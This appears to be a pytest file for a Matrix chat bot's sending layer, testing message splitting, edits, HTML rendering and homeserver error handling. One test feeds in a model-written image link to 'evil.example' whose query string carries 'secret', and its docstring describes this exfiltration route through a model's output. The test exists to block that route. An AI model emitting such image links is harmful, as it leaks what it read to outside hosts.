"""A reply as Matrix messages: each within the homeserver's event limit, HTML included."""

from __future__ import annotations

import json
from types import SimpleNamespace
from typing import Any

import aiohttp
import pytest
from nio import RoomSendError

from bot.delivery import Gone
from bot.matrix.cards import question_text
from bot.matrix.sending import (
    CONTENT_BUDGET,
    MatrixClient,
    MatrixRefused,
    MatrixRetryLater,
    MatrixUnavailable,
    Rooms,
    check,
    content_of,
    contents_of,
    edit_of,
    fitted,
    leave,
)
from bot.platform.voice_out import VOICE


def numbers_table(rows: int = 180, columns: int = 12) -> str:
    """Right-aligned two-digit numbers: under 7,000 characters of Markdown, whose HTML
    (a tag and a style per cell) is about 90 KB."""
    lines = ["|" + "|".join(f"c{i}" for i in range(columns)) + "|"]
    lines.append("|" + "|".join(["-:"] * columns) + "|")
    lines += [
        "|" + "|".join(str(10 + (r * 7 + i) % 90) for i in range(columns)) + "|"
        for r in range(rows)
    ]
    return "\n".join(lines)


def size(content: dict) -> int:
    return len(json.dumps(content, ensure_ascii=False).encode())


def test_a_long_table_is_cut_until_each_message_fits_the_event_limit() -> None:
    """It went as one event of 96 KB, which Synapse refuses: the reply was lost (found by
    review). Each message after the first repeats the header and delimiter rows, so it
    is drawn as a table too (it was raw pipe text; found by review)."""
    table = numbers_table()
    contents = contents_of(table)
    assert len(contents) > 1
    assert all(size(c) <= CONTENT_BUDGET for c in contents)
    rows = table.splitlines()
    said = list(rows[:2])
    for content in contents:
        lines = content["body"].splitlines()
        assert lines[:2] == rows[:2] and "<table>" in content["formatted_body"]
        said += lines[2:]
    assert said == rows  # every row once, in order


def test_a_short_reply_is_one_message() -> None:
    [content] = contents_of("**hello**")
    assert content["body"] == "**hello**" and "<strong>hello</strong>" in content["formatted_body"]


def test_an_edit_carries_its_content_twice_and_still_fits_the_event_limit() -> None:
    """A decided card of 6,000 characters of Chinese: 36 KB of content, twice in its edit,
    was 72 KB, which Synapse refuses (the card kept its choices; found by review). The
    fallback for clients without edits is shortened, plain; the new content keeps its
    HTML."""
    [content] = contents_of("**Approval needed**\n\n```\n" + "删除" * 3000 + "\n```")
    assert size(content) > CONTENT_BUDGET // 2
    edit = edit_of(content, "$card")
    assert size(edit) <= CONTENT_BUDGET
    assert edit["m.new_content"] == content  # whole, HTML too
    assert edit["m.relates_to"] == {"rel_type": "m.replace", "event_id": "$card"}
    assert edit["body"].startswith("* **Approval needed**") and "formatted_body" not in edit


def test_an_edit_too_big_even_once_is_plain_then_cut() -> None:
    content = {"msgtype": "m.text", "body": "字" * 30_000, "format": "x", "formatted_body": "y"}
    edit = edit_of(content, "$big")
    assert size(edit) <= CONTENT_BUDGET
    assert set(edit["m.new_content"]) == {"msgtype", "body"}
    assert edit["m.new_content"]["body"].startswith("字" * 1000)


def test_a_small_edit_is_the_content_with_its_fallback() -> None:
    [content] = contents_of("**done**")
    edit = edit_of(content, "$e")
    assert edit == {
        **content,
        "body": "* **done**",
        "m.new_content": content,
        "m.relates_to": {"rel_type": "m.replace", "event_id": "$e"},
    }


def test_an_image_the_model_wrote_is_a_link_never_an_img() -> None:
    """An <img> of any address makes a client that loads it fetch what the model chose
    (a query string can carry what it read; found by review)."""
    [content] = contents_of(
        "see ![chart](https://evil.example/x.png?d=secret), ![x](data:image/png;base64,AAA)"
    )
    html = content["formatted_body"]
    assert "<img" not in html
    assert '<a href="https://evil.example/x.png?d=secret">chart</a>' in html
    assert "data:" not in html


def test_a_card_whose_html_is_too_big_is_plain_then_cut_to_fit() -> None:
    """A question's table with rows that leave cells out: 6 KB of Markdown, hundreds of
    KB of HTML (markdown-it fills each row); the homeserver refused the card, which was
    never shown (found by review)."""
    columns = "|" + "|".join(f"c{i}" for i in range(40)) + "|\n"
    table = columns + "|" + "|".join("-" for _ in range(40)) + "|\n" + "|r|\n" * 500
    question = content_of(question_text("Which row should I keep?\n\n" + table))
    assert size(question) > CONTENT_BUDGET
    fit = fitted(question)
    assert size(fit) <= CONTENT_BUDGET and "formatted_body" not in fit
    assert fit["body"] == question["body"]  # the words all there, as Markdown
    huge = fitted({"msgtype": "m.text", "body": "界" * 40_000})
    assert size(huge) <= CONTENT_BUDGET and huge["body"].endswith("…")


class _Answer:
    def __init__(self, status: int, body: dict) -> None:
        self.status, self._body = status, body

    async def json(self, content_type: object = None) -> dict:
        return self._body

    def release(self) -> None:
        pass


class _Homeserver:
    """matrix-nio's raw ``send``, answering one status and body."""

    access_token = "token"

    def __init__(self, status: int, body: dict) -> None:
        self.answer = _Answer(status, body)

    async def send(self, method: str, path: str, data: str, headers: dict) -> _Answer:
        return self.answer


@pytest.mark.parametrize(
    ("status", "body", "error"),
    [
        (429, {"errcode": "M_LIMIT_EXCEEDED", "retry_after_ms": 2500}, MatrixRetryLater),
        (429, {}, MatrixRetryLater),
        (502, {}, MatrixUnavailable),
        (403, {"errcode": "M_FORBIDDEN"}, MatrixRefused),
    ],
)
async def test_a_decline_the_homeserver_limits_is_tried_again_not_dropped(
    status: int, body: dict, error: type[Exception]
) -> None:
    """Synapse limits leaves as it limits messages: a stranger's decline that met a 429
    was taken for a refusal and dropped, the bot left invited and the stranger without
    their code (found by review)."""
    with pytest.raises(error) as raised:
        await leave(_Homeserver(status, body), "!room:hs", "your code is 123")  # type: ignore[arg-type]
    if body.get("retry_after_ms"):
        assert raised.value.seconds == 2.5  # type: ignore[attr-defined]


async def test_a_reply_sent_while_signing_in_again_waits_for_the_login() -> None:
    """A revoked token is dropped while a password logs in again: matrix-nio raised "Not
    logged in" for a reply sent then, and the outbox failed it for good (found by CI)."""

    class SigningIn:
        access_token = ""

        async def room_send(self, *args: Any, **kwargs: Any) -> Any:
            raise AssertionError("nothing is sent without a token")

    client = MatrixClient(SigningIn(), Rooms(), None)  # type: ignore[arg-type]
    with pytest.raises(MatrixUnavailable):
        await client.send("!room:hs", {"content": {"msgtype": "m.text", "body": "hi"}})


def test_a_cut_replys_reference_links_keep_their_addresses_in_the_html() -> None:
    """A reply cut into messages rendered each part alone: "[the docs][1]" in one and
    "[1]: https://…" in another, Element showed no address at all, and the part of the
    definitions an empty formatted body (found by review on 2026-12-07)."""
    reply = (
        "See [the docs][1] and [the code][2].\n\n" + ("word " * 1700) + "\n\n"
        "[1]: https://example.com/docs\n[2]: https://example.com/code"
    )
    parts = contents_of(reply)
    assert len(parts) > 1
    assert 'href="https://example.com/docs"' in parts[0]["formatted_body"]
    assert all(p.get("formatted_body", None) != "" for p in parts)
    assert content_of("[1]: https://example.com/docs").get("formatted_body") is None


def test_a_part_cut_again_for_its_html_keeps_the_replys_link_definitions() -> None:
    """A part over the size budget was cut again and read alone: its links lost their
    addresses (found by review on 2026-12-07)."""
    address = "https://example.com/" + "d" * 300  # each link's HTML carries it whole
    links = "\n".join(f"- [a{i}][d]" for i in range(2000))
    parts = contents_of(f"{links}\n\n[d]: {address}", limit=20_000)
    assert len(parts) > 2
    assert all(address in p["formatted_body"] for p in parts[:-1])


@pytest.mark.parametrize(
    ("status", "errcode", "gone"),
    [(403, "M_FORBIDDEN", True), (413, "M_TOO_LARGE", False), (400, "M_UNKNOWN", False)],
)
def test_a_room_that_refuses_the_bot_for_good_is_told_from_a_refused_message(
    status: int, errcode: str, gone: bool
) -> None:
    """Kicked, banned, left: ``M_FORBIDDEN`` is ``Gone`` (the room's scheduled jobs pause
    on it); a refusal of this one message is not."""
    refused = RoomSendError.from_dict({"errcode": errcode, "error": "no"}, "!room:hs")
    refused.transport_response = SimpleNamespace(status=status)
    with pytest.raises(MatrixRefused) as raised:
        check(refused)
    assert isinstance(raised.value, Gone) is gone


async def test_a_dropped_upload_is_the_delivery_layers_outage_not_a_bug() -> None:
    """A voice reply's audio upload met a dropped connection (a restart, a proxy reset):
    aiohttp's own error escaped, ``Outbound`` took it for a payload no client can send,
    and the reply was failed for good, neither voice nor text. It is the homeserver away
    (``MatrixUnavailable``): retried, then postponed (found by review on 2026-12-07)."""

    class Homeserver:
        access_token = "token"

        async def upload(self, *args, **kwargs):
            raise aiohttp.ServerDisconnectedError()

        async def room_send(self, *args, **kwargs):
            raise AssertionError("not reached: the upload failed first")

    async def speak(_text: str) -> bytes:
        return b"OggS" + bytes(64)

    client = MatrixClient(Homeserver(), Rooms(), speak)  # type: ignore[arg-type]
    payload = {
        "content": {"msgtype": "m.text", "body": "echo: hello aloud"},
        "txn": "chathub.t.0",
        VOICE: "echo: hello aloud",
    }
    with pytest.raises(MatrixUnavailable):  # retried, then postponed: not lost
        await client.send("!room:hs", payload)


def test_single_line_breaks_survive_in_the_html() -> None:
    """A reply's single line breaks were spaces in its HTML: "**Ann**\\nAge: 41" showed on
    one line in Element, though the same text without formatting kept its lines (found
    by review on 2026-12-07). A code block keeps its own lines, no <br> in it."""
    html = content_of("**Ann**\nAge: 41\nCity: Oslo")["formatted_body"]
    assert html.count("<br") == 2, html
    code = content_of("See:\n\n```\na\nb\n```")["formatted_body"]
    assert "<pre><code>a\nb\n</code></pre>" in code, code
